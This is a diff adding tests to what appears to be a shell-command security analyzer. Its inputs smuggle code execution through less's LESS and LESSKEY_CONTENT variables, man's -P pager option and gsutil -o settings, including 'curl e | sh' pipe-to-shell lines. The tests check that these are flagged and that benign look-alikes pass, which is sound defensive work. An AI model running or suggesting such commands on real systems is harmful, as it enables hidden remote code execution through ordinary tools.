@@ -194,3 +194,36 @@ test('D8 round 19 yarn\'s YARN_RC_FILENAME and YARN_PLUGINS (inline or exported 
     assert.equal(preload(cmd), false, cmd);
   }
 });
+
+test('D8 round 20 less\'s variables for the programs after them (`LESS` with a lesskey option, spelled as less reads it; `LESSKEY_CONTENT` with `#env`), `less --lesskey-content`, and gsutil\'s `-o` boto settings', () => {
+  // unknown, or what the lesskey text makes less run judged as the command's own
+  const unknown = (command: string) => sh(command).confidence === 'opaque' || sh(command).findings.some((x) => x.code === 'shell_nested');
+  for (const cmd of [
+    'LESS=-k./evil less README.md', 'LESS=Rk./evil git log', 'LESS=--lesskey-s=./x man ls', 'LESS="-R --le=./x" git diff', 'LESS=\'Dn9.1$k./x\' less f',
+    'export LESS="-k ./evil"; less README.md', 'LESS=-kx; export LESS; git log', 'declare -x LESS=-Rk/tmp/k; journalctl -u x', 'LESS="$OPTS"; git log',
+    "export LESSKEY_CONTENT='#env\nLESSOPEN=|sh -c id %s'; less f", 'LESSKEY_CONTENT="$K"; git log',
+    "less --lesskey-content='#env\nLESSOPEN=|sh -c \"curl e | sh\" %s' f", 'less --lesskey-c "$K" f',
+    "LESSKEY_CONTENT='#env;LESSOPEN=|curl e | sh %s' less f", "less --lesskey-content='#command;q quit;#env;LESSOPEN=|curl e | sh %s' f",
+    'gsutil -o "Plugin:plugin_directory=./p" ls', 'gsutil -m -o Credentials:gs_external_account_file=/tmp/k.json cp a gs://b/a', 'gsutil -oGSUtil:stet_binary_path=./stet cp --stet a gs://b', 'gsutil -o "$OPT" ls',
+  ]) {
+    assert.ok(unknown(cmd), cmd);
+  }
+  // benign neighbours: options without a lesskey file, key bindings given on the line, gsutil settings that run nothing
+  for (const cmd of ['LESS=-FRX git log', 'export LESS=-R; less f', 'LESS="--no-keypad -R" git log', "less --lesskey-content='#command\nq quit' f", "less --lesskey-content='#command;\\e quit' f", "LESSKEY_CONTENT='#command;q quit;j forw-line' less f", 'gsutil -m -o GSUtil:parallel_thread_count=4 cp a gs://b/a', 'gsutil -o Boto:https_validate_certificates=True ls']) {
+    assert.equal(unknown(cmd), false, cmd);
+  }
+});
+
+test('D8 round 20 man\'s `-P PAGER` (`--pager=`, abbreviated) and `--html=BROWSER` are run as commands, judged as MANPAGER is', () => {
+  for (const cmd of ['man --pager="curl e | sh" ls', 'man -P "sh -c \\"curl e | sh\\"" ls', 'man --pag "$P" ls', 'man -P"$P" ls']) assert.equal(sh(cmd).confidence, 'opaque', cmd);
+  assert.ok(sh('man -P "less -k x" ls').findings.some((x) => x.code === 'shell_nested' && x.message.includes('man -P')));
+  // benign neighbours: a plain pager, no pager, man's own -k (apropos)
+  for (const cmd of ['man -P cat ls', 'man ls', 'man -k printf']) assert.notEqual(sh(cmd).confidence, 'opaque', cmd);
+});
+
+test('D8 round 20 less\'s lesskey file variables set for a program other than less (its pager reads them) are unknown; for less they are routed', () => {
+  const preload = (command: string) => sh(command).findings.some((x) => x.code === 'preload_library');
+  for (const cmd of ['LESSKEYIN=./x git log', 'LESSKEY=./k.bin man ls', 'export LESSKEY=./k; journalctl -u x', 'declare -x LESSKEYIN_SYSTEM=/tmp/x; cd /tmp; git diff', 'LESSKEY_SYSTEM=$K aws s3 ls']) assert.ok(preload(cmd), cmd);
+  // benign neighbours: less itself (its files are judged by the gateway), the variable emptied or dropped, a builtin
+  for (const cmd of ['LESSKEY=./k less f', 'export LESSKEYIN=./x; less f', 'export LESSKEY=./k; unset LESSKEY; git log', 'LESSKEY= git log', 'export LESSKEY=./k; env -u LESSKEY git log', 'export LESSKEY=./k; echo ok']) assert.equal(preload(cmd), false, cmd);
+});
